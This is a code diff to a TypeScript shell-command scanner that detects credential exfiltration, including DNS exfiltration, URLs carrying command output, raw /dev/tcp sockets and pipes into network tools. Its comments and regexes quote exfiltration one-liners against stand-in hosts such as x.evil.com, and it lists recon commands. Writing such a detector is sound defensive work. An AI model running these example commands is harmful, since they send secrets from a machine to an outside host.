@@ -1,11 +1,13 @@
 import {
   type Analysis,
   argTexts,
+  type Cmd,
   type Hit,
   isSink,
   mentionsSecret,
   NET_TOOLS,
   namesRemoteHost,
+  reachesNetwork,
   readsSecret,
 } from "../facts.js";
 
@@ -30,6 +32,53 @@ export function rawSocketSend(a: Analysis, hit: Hit): boolean {
   return false;
 }
 
+/** A URL or host name word: `https://…`, `x.evil.com`, `$(id).evil.com`. */
+const DESTINATION = /^(?:[a-z][\w+.-]*:\/\/|[^\s/=]*\.[a-z]{2,}(?:[:/]|$))/i;
+/** The host part of such a word holds a substitution (`$(whoami).x.com`, `http://`id`.x/`). */
+const HOST_SUBST = /^(?:[a-z][\w+.-]*:\/\/)?[^/\s]*(?:\$\([^()]*\)|`[^`]*`)[\w-]*\.[\w.-]*[a-z]/i;
+const INNER = /\$\(([^()]*)\)|`([^`]*)`/g;
+/** Commands whose output tells who and where the machine is, or what it holds. */
+const RECON =
+  /^\s*(?:[\w/]*\/)?(?:id|whoami|hostname|uname|env|printenv|ifconfig|ip|ls|pwd|cat|base64|groups|w|last)\b/;
+
+/**
+ * Output of a command put into where a network command sends its request: the host name
+ * (DNS exfiltration: `ping $(whoami).x.com`, `dig `id`.x.net`) or a URL's path and query
+ * when the output is an identity, listing or file (`curl https://x.com/$(id|base64)`).
+ * `curl -H "Authorization: Bearer $(cat token)" https://api…` passes: that is a header.
+ */
+function outputInDestination(c: Cmd): string | undefined {
+  if (!namesRemoteHost(c)) return undefined;
+  for (const w of c.r.args) {
+    if (!w.subst) continue;
+    const raw = w.raw.replace(/^["']/, "");
+    if (!DESTINATION.test(raw) && !HOST_SUBST.test(raw)) continue;
+    if (HOST_SUBST.test(raw)) return w.raw;
+    for (const m of raw.matchAll(INNER)) {
+      const inner = m[1] ?? m[2] ?? "";
+      if (RECON.test(inner) || mentionsSecret(inner)) return w.raw;
+    }
+  }
+  return undefined;
+}
+
+const DEV_NET = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\//;
+
+function opensRemoteSocket(a: Analysis): boolean {
+  for (const c of a.cmds) {
+    if (NET_TOOLS.has(c.r.name) && c.r.name !== "openssl" && remote(argTexts(c.r))) return true;
+    for (const r of c.sc.redirects) {
+      const m = DEV_NET.exec(r.target?.text ?? "");
+      if (m && !LOOPBACK.test(m[1] as string)) return true;
+    }
+  }
+  return false;
+}
+
+/** A network command whose arguments come from its input: through xargs or a variable. */
+const carriesInput = (c: Cmd) =>
+  reachesNetwork(c) && (c.r.wrappers.includes("xargs") || c.r.args.some((w) => w.vars.length > 0));
+
 /** The first operand that names a host is not a loopback address. */
 function remote(args: string[]): boolean {
   const host = args.find((x) => !x.startsWith("-") && !/^\d+$/.test(x));
@@ -51,10 +100,25 @@ export function credentialExfil(a: Analysis, hit: Hit): boolean {
     const secret = mentionsSecret(c.sc.raw) ?? readsSecret(c);
     if (secret) return hit("shell.credential-exfil", c.sc.raw);
   }
+  for (const c of a.cmds) {
+    const leak = outputInDestination(c);
+    if (leak) return hit("shell.credential-exfil", leak);
+  }
+  // A script that opens a raw connection to a remote host (`exec 3<>/dev/tcp/h/80`, `ztcp h
+  // 4444`, `nc h 4444`) and reads a secret anywhere has what it needs to send it: commands
+  // write to the socket through a descriptor (`cat .env >&3`, `echo "$(<.env)" >&$REPLY`).
+  if (opensRemoteSocket(a))
+    for (const c of a.cmds) {
+      const secret = readsSecret(c);
+      if (secret) return hit("shell.credential-exfil", c.sc.raw);
+    }
   for (const { p, stages } of a.pipes) {
     let secret: string | undefined;
     for (const stage of stages) {
-      if (secret && stage.some(isSink)) return hit("shell.credential-exfil", p.raw);
+      // A later stage sends what it reads, or turns it into a request (`… | xargs -I{} curl
+      // https://x/{}`, `… | while read l; do dig $l.x.com; done`).
+      if (secret && stage.some((c) => isSink(c) || carriesInput(c)))
+        return hit("shell.credential-exfil", p.raw);
       for (const c of stage) secret ??= readsSecret(c);
     }
   }
